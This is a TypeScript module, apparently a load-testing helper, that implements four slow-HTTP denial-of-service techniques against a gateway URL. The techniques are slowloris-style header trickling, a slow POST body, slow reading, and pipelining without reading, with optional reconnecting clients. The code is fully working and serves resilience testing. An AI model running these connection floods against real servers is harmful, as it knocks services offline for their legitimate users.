import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

export type Hostility =
  | 'pipelines and never reads'
  | 'sends headers slowly'
  | 'sends a body slowly'
  | 'reads slowly';

export type Attack = {
  open(): number;
  /** Connections that the gateway closed, those that were opened again in their place among them. */
  closed(): number;
  stop(): void;
};

const TRICKLE_MS = 200;
const BACK_WITHIN_MS = 4_000;
/** As many requests as one read of a socket can hold. */
const BATCH_BYTES = 64 * 1024;

const get = (path: string) => `GET ${path} HTTP/1.1\r\nhost: a\r\n\r\n`;

/** `path` is something large. Clients that come back open a new connection some seconds after theirs was closed. */
export function attack(
  url: string,
  hostility: Hostility,
  { amount, path, comesBack = false }: { amount: number; path: string; comesBack?: boolean },
): Attack {
  const { hostname, port } = new URL(url);
  const sockets = new Set<Socket>();
  let closed = 0;
  let stopped = false;
  const batch = Buffer.from(get(path).repeat(Math.ceil(BATCH_BYTES / get(path).length)));
  const open = () => {
    const socket = connect({ host: hostname, port: Number(port) });
    sockets.add(socket);
    socket.on('error', () => {});
    socket.on('connect', () => void behave[hostility](socket, path, batch));
    // Reading is the only way to detect an end: 'close' follows a failed write, too.
    socket.on('close', () => {
      sockets.delete(socket);
      if (stopped) return;
      closed += 1;
      if (comesBack) setTimeout(() => stopped || open(), 1_000 + Math.random() * BACK_WITHIN_MS);
    });
  };
  for (let index = 0; index < amount; index += 1) open();
  return {
    open: () => sockets.size,
    closed: () => closed,
    stop() {
      stopped = true;
      for (const socket of sockets) socket.destroy();
    },
  };
}

const behave: Record<Hostility, (socket: Socket, path: string, batch: Buffer) => Promise<void>> = {
  async 'pipelines and never reads'(socket, _path, batch) {
    while (!socket.destroyed) {
      const isTaken = socket.write(batch);
      await (isTaken
        ? sleep(TRICKLE_MS)
        : new Promise(resolve => socket.once('drain', resolve).once('close', resolve)));
    }
  },
  async 'sends headers slowly'(socket, path) {
    socket.resume();
    await trickle(socket, `${get(path).trimEnd()}\r\nx-slow: ${'x'.repeat(10_000)}`);
  },
  async 'sends a body slowly'(socket) {
    socket.resume();
    socket.write(
      'POST /api/guestUser/create HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 60000\r\n\r\n',
    );
    await trickle(socket, `{"a":"${'x'.repeat(10_000)}`);
  },
  async 'reads slowly'(socket, path) {
    socket.write(get(path));
    while (!socket.destroyed) {
      await sleep(TRICKLE_MS);
      socket.read(1);
      // An end behind unread bytes is only detected by writing.
      socket.write('\r\n');
    }
  },
};

async function trickle(socket: Socket, text: string): Promise<void> {
  for (const character of text) {
    if (socket.destroyed) return;
    socket.write(character);
    await sleep(TRICKLE_MS);
  }
}
